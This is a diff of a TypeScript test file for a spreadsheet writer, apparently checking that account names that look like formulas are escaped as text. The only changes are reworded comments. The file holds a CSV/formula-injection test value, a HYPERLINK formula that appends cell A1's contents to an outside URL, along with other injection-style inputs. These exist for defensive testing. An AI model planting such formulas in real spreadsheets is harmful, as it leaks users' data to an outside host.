@@ -12,7 +12,7 @@ import { bytesOf, sampleForecast } from './_sample-forecast.ts'
 const FIRST_MONTH = 5
 const CODE_COLUMN = 1
 
-/** A name somebody gave an account so that a spreadsheet runs it. */
+/** A name of an account that a spreadsheet would run as a formula. */
 const EVIL = '=HYPERLINK("http://example.com/?"&A1,"Sales")'
 
 const { ledger, forecast } = sampleForecast()
@@ -25,7 +25,7 @@ const workbook = modelWorkbook(input, ['About', '=1+1', '@SUM(A1)', '-2 & more <
 const written = async (content: Workbook = workbook) =>
   readWorkbook(await bytesOf(await writeWorkbook(content)))
 
-/** The file as a spreadsheet engine that nobody here wrote computes it. */
+/** The file as an independent spreadsheet engine computes it. */
 function recalculated(sheets: readonly ReadSheet[]) {
   const engine = HyperFormula.buildEmpty({ licenseKey: 'gpl-v3' })
   for (const { name } of sheets) engine.addSheet(name)
@@ -43,7 +43,7 @@ function recalculated(sheets: readonly ReadSheet[]) {
     engine.getCellValue({ sheet: engine.getSheetId(name) ?? -1, row, col: column })
 }
 
-/** An apostrophe is how a spreadsheet is told that what follows is text. */
+/** An apostrophe marks what follows as text in a spreadsheet. */
 const raw = (cell: ReadCell): string | number => {
   if (cell.kind === 'number') return cell.number
   return cell.kind === 'formula' ? `=${cell.formula}` : `'${cell.text}`
